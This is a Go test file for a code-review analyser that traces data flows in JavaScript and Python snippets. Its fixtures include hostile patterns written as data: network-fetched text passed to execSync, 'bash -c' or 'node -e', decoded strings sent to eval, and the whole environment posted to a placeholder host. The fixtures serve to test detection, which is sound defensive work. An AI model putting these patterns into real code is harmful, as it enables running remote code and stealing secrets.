package behavior

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bumplens/bumplens/review/syntax"
)

// flowsOf reads a program and tells its flows, each with the function in which
// it ends.
func flowsOf(p, text string) string {
	var list []string
	for _, f := range Of(p, []byte(text)).Flows {
		list = append(list, fmt.Sprintf("%v to %v in %s", f.From, f.Kind, f.Symbol))
	}
	return strings.Join(list, "; ")
}

func TestWhatAHelperHandsBackIsItsCallers(t *testing.T) {
	const clean = "function clean(p) { const q = p.trim(); if (!q) return ''; return q.replace(/x/, ''); }\n"
	tests := []struct{ name, text, want string }{
		{"decoded by one, loaded by another", clean +
			"function key(s) { return clean(Buffer.from(s, 'hex').toString()); }\n" +
			"function load(p) { return require(clean(p)); }", ""},
		{"decoded and run by the same", clean + "function bad(s) { return eval(clean(Buffer.from(s, 'hex').toString())); }", "decoding to dynamic in bad"},
		{"a part of an object", "function split(p) { const file = p.trim(); for (;;) { return { file }; } }\n" +
			"function key(s) { return split(atob(s)).file; }\nfunction load(p) { return require(split(p).file); }", ""},
		{"what the helper itself decodes", "function both(s) { const x = s.trim(); return { x, y: atob(x) }; }\nfunction bad(s) { eval(both(s).y); }", "decoding to dynamic in bad"},
		{"what a function within it decodes", "function wrap(s) { let d; each(() => { d = atob(s); }); return d; }\nfunction bad(s) { eval(wrap(s)); }", "decoding to dynamic in bad"},
		{"what is around it", "let held;\nfunction fill() { held = atob('x'); }\nfunction get() { return held; }\nfunction bad() { eval(get()); }", "decoding to dynamic in bad"},
		{"what a function decodes that it is handed", "function call(f, x) { const r = f(x); return r; }\nfunction bad() { eval(call(s => atob(s), 'xxxx')); }", "decoding to dynamic in bad"},
		{"what a function gives that it gives", "function add(a) { return function (b) { return a + b; }; }\nfunction bad() { eval(add(atob('zz'))('y')); }", "decoding to dynamic in bad"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, flowsOf("a.js", tt.text)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// A tree in which a part is missing is evaluated like any other.
func TestMissingParts(t *testing.T) {
	b := syntax.NewBuilder(nil)
	for kind := range syntax.Kind(64) {
		b.Leaf(kind, 0)
	}
	for _, l := range languages {
		l.read(nil, b.Tree())
	}
}

func TestArgumentsOfCommands(t *testing.T) {
	const answer = "const cp = require('child_process');\nasync function a() { const r = await fetch('https://x.invalid'); const t = await r.text();\n"
	tests := []struct{ command, want string }{
		{"cp.execFile('git', ['clone', t])", "handed over"},
		{"cp.execSync(`security add-password -w ${t}`)", "handed over"},
		{"cp.execSync(t)", "run"},
		{"cp.execSync(`${t} -x`)", "run"},
		{"cp.execSync(`cd x && ${t}`)", "run"},
		{"cp.execSync(`bash -c ${t}`)", "run"},
		{"cp.spawn('node', ['-e', t])", "run"},
		{"cp.spawn('/usr/bin/python3.11', ['-c', t])", "run"},
		{"cp.spawn(t, ['x'])", "run"},
		{"eval(`let x = ${t}`)", "run"},
	}
	for _, tt := range tests {
		got := ""
		for _, f := range Of("a.js", []byte(answer+tt.command+" }")).Flows {
			if f.From == Network && (f.Kind == Process || f.Kind == Dynamic) {
				if got = "run"; f.Part {
					got = "handed over"
				}
			}
		}
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.command, got, tt.want)
		}
	}
}

// A program that is started has the environment of who starts it.
func TestEnvironmentsOfPrograms(t *testing.T) {
	tests := []struct{ path, text, want string }{
		{"a.js", "require('child_process').spawn('x', [], { env: { ...process.env, A: 'b' } })", ""},
		{"a.py", "import os, subprocess\nsubprocess.run(['x'], env={**os.environ, 'A': 'b'})", ""},
		{"a.py", "import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ, A='b'))", ""},
		{"a.js", "const all = { ...process.env }", "reads"},
		{"a.js", "fetch('https://x.invalid', { body: JSON.stringify({ env: { ...process.env } }) })", "sends"},
	}
	for _, tt := range tests {
		f, got := Of(tt.path, []byte(tt.text)), ""
		for _, o := range f.Observations {
			if o.Kind == Environment && o.What == "*" {
				got = "reads"
			}
		}
		for _, flow := range f.Flows {
			if flow.From == Environment && flow.Kind == Network {
				got = "sends"
			}
		}
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestLoopsThatALabelEnds(t *testing.T) {
	tests := []struct {
		path, text string
		endless    bool
	}{
		{"a.js", "loop: while (true) { switch (x()) { case 1: break loop; default: y() } }", false},
		{"a.js", "outer: for (const a of b) { while (true) { switch (x()) { case 1: continue outer } } }", false},
		{"a.js", "while (true) { switch (x()) { case 1: break; default: y() } }", true},
		{"a.go", "package a\nfunc f() {\nloop:\n\tfor {\n\t\tswitch x() {\n\t\tcase 1:\n\t\t\tbreak loop\n\t\t}\n\t}\n}", false},
	}
	for _, tt := range tests {
		endless := false
		for _, o := range Of(tt.path, []byte(tt.text)).Observations {
			endless = endless || o.Kind == EndlessLoop
		}
		if endless != tt.endless {
			t.Errorf("%s: endless is %v", tt.text, endless)
		}
	}
}
